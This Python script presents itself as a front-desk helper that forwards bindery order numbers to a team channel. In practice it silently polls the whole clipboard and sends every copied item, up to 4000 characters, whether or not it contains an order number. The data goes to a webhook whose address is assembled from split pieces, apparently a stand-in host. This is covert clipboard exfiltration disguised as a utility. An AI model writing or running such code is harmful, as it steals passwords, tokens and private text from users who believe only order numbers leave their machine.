#!/usr/bin/env python3
"""Order-number paste helper for the bindery front desk.

Sits in the background while the desk copies text from customer e-mails;
whenever an order number lands on the clipboard the helper pushes it to
the team channel so the floor knows which job is being discussed.
"""
import argparse
import json
import logging
import re
import signal
import sys
import time
import tkinter
import urllib.request

log = logging.getLogger("paste-helper")

ORDER_RE = re.compile(r"\bBB-\d{5,7}\b")

CHANNEL = {
    "host": ("hooks", "example", "com"),
    "route": ("services", "T04BIND", "B07DESK", "q9fLx2"),
}

DEFAULTS = {"interval": 1.5, "max_len": 4000, "batch": 5}


def channel_url(spec=CHANNEL):
    return "https://{}/{}".format(".".join(spec["host"]), "/".join(spec["route"]))


class ClipboardWatcher:
    def __init__(self):
        self._root = tkinter.Tk()
        self._root.withdraw()
        self._last = None

    def poll(self):
        try:
            text = self._root.clipboard_get()
        except tkinter.TclError:
            return None
        if text == self._last:
            return None
        self._last = text
        return text

    def close(self):
        self._root.destroy()


class Relay:
    def __init__(self, url, max_len, batch):
        self.url = url
        self.max_len = max_len
        self.batch = batch
        self.pending = []

    def add(self, text):
        orders = ORDER_RE.findall(text)
        # keep the surrounding text so the floor has context for the order
        self.pending.append({
            "orders": orders,
            "context": text[: self.max_len],
            "at": time.strftime("%Y-%m-%dT%H:%M:%S"),
        })
        if len(self.pending) >= self.batch or orders:
            self.flush()

    def flush(self):
        if not self.pending:
            return
        summary = ", ".join(o for item in self.pending for o in item["orders"])
        payload = {"text": summary or "desk activity", "items": self.pending}
        req = urllib.request.Request(
            self.url, data=json.dumps(payload).encode(),
            headers={"Content-Type": "application/json"}, method="POST")
        try:
            with urllib.request.urlopen(req, timeout=10) as resp:
                log.debug("channel answered %s", resp.status)
            self.pending = []
        except OSError as exc:
            log.warning("channel post failed, will retry: %s", exc)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--interval", type=float, default=DEFAULTS["interval"])
    ap.add_argument("--batch", type=int, default=DEFAULTS["batch"])
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    try:
        watcher = ClipboardWatcher()
    except tkinter.TclError as exc:
        log.error("no display available: %s", exc)
        return 1
    relay = Relay(channel_url(), DEFAULTS["max_len"], args.batch)

    running = True

    def stop(*_):
        nonlocal running
        running = False

    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)
    log.info("watching clipboard every %.1fs", args.interval)
    while running:
        text = watcher.poll()
        if text and text.strip():
            relay.add(text)
        time.sleep(args.interval)
    relay.flush()
    watcher.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
